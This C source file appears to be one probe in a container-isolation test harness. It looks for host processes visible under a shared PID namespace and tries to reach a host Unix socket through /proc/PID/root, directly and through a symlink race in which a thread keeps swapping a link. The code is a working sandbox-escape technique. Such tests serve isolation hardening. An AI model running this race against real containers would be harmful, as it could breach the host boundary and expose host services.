// A socket of the host behind /proc/PID/root of a process of the host that is in sight (--pid=host): the path
// stands in a socket's address, and one link of it turns between a harmless socket and that one.
#include "attack.h"
#include <dirent.h>
#include <pthread.h>
#include <sys/socket.h>
#include <sys/un.h>

static char target[100];

static void *turns(void *unused) {
    for (;;) {
        unlink("/tmp/hs/turn.new");
        if (symlink("/tmp/hs/own", "/tmp/hs/turn.new") == 0)
            rename("/tmp/hs/turn.new", "/tmp/hs/turn");
        unlink("/tmp/hs/turn.new");
        if (symlink(target, "/tmp/hs/turn.new") == 0)
            rename("/tmp/hs/turn.new", "/tmp/hs/turn");
    }
    return unused;
}

static void ask(const char *path) {
    struct sockaddr_un un = {.sun_family = AF_UNIX};
    snprintf(un.sun_path, sizeof un.sun_path, "%s", path);
    int s = socket(AF_UNIX, SOCK_STREAM, 0);
    char word[8] = "";
    if (s >= 0 && connect(s, (struct sockaddr *)&un, sizeof un) == 0 && read(s, word, sizeof word - 1) > 0 &&
        strncmp(word, "HOST", 4) == 0)
        attack_won("connect(2) reaches a socket of the host by %s", path);
    close(s);
    s = socket(AF_UNIX, SOCK_DGRAM, 0);
    if (s >= 0 && sendto(s, "x", 1, MSG_DONTWAIT, (struct sockaddr *)&un, sizeof un) == 1)
        attack_won("sendto(2) reaches a socket of the host by %s", path);
    close(s);
}

// Tries the root of each process that may be the bystander; how many there are. The last stays in target.
static int bystanders(void) {
    DIR *dir = opendir("/proc");
    int seen = 0;
    for (struct dirent *e; dir && (e = readdir(dir));) {
        char path[64], name[16] = "";
        int pid = atoi(e->d_name);
        snprintf(path, sizeof path, "/proc/%d/comm", pid);
        int fd = pid > 0 ? open(path, O_RDONLY) : -1;
        if (fd >= 0 && read(fd, name, sizeof name - 1) > 0 && strncmp(name, "sleep", 5) == 0) {
            snprintf(target, sizeof target, "/proc/%d/root%.70s", pid, getenv("HOST_SOCKET"));
            ask(target);
            seen++;
        }
        close(fd);
    }
    if (dir)
        closedir(dir);
    return seen;
}

int main(void) {
    pthread_t thread;
    int seen = 0;
    while (!(seen = bystanders()) && !attack_over())
        usleep(10000);
    if (!seen)
        attack_broken("no process of the host is in sight");
    mkdir("/tmp/hs", 0700);
    unlink("/tmp/hs/own");
    struct sockaddr_un un = {.sun_family = AF_UNIX, .sun_path = "/tmp/hs/own"};
    int own = socket(AF_UNIX, SOCK_STREAM, 0);
    if (own < 0 || bind(own, (struct sockaddr *)&un, sizeof un) < 0 || listen(own, 1000) < 0)
        attack_broken("a socket of one's own");
    pthread_create(&thread, NULL, turns, NULL);
    while (!attack_over()) {
        fcntl(own, F_SETFL, O_NONBLOCK);
        int c = accept(own, NULL, NULL);
        if (c >= 0) {
            shutdown(c, SHUT_RDWR);
            close(c);
        }
        struct sockaddr_un turn = {.sun_family = AF_UNIX, .sun_path = "/tmp/hs/turn"};
        char word[8] = "";
        int s = socket(AF_UNIX, SOCK_STREAM | SOCK_NONBLOCK, 0);
        if (connect(s, (struct sockaddr *)&turn, sizeof turn) == 0) {
            usleep(300);
            if (read(s, word, sizeof word - 1) > 0 && strncmp(word, "HOST", 4) == 0)
                attack_won("connect(2) reaches a socket of the host by a link that turns");
        }
        close(s);
    }
    attack_lost();
}
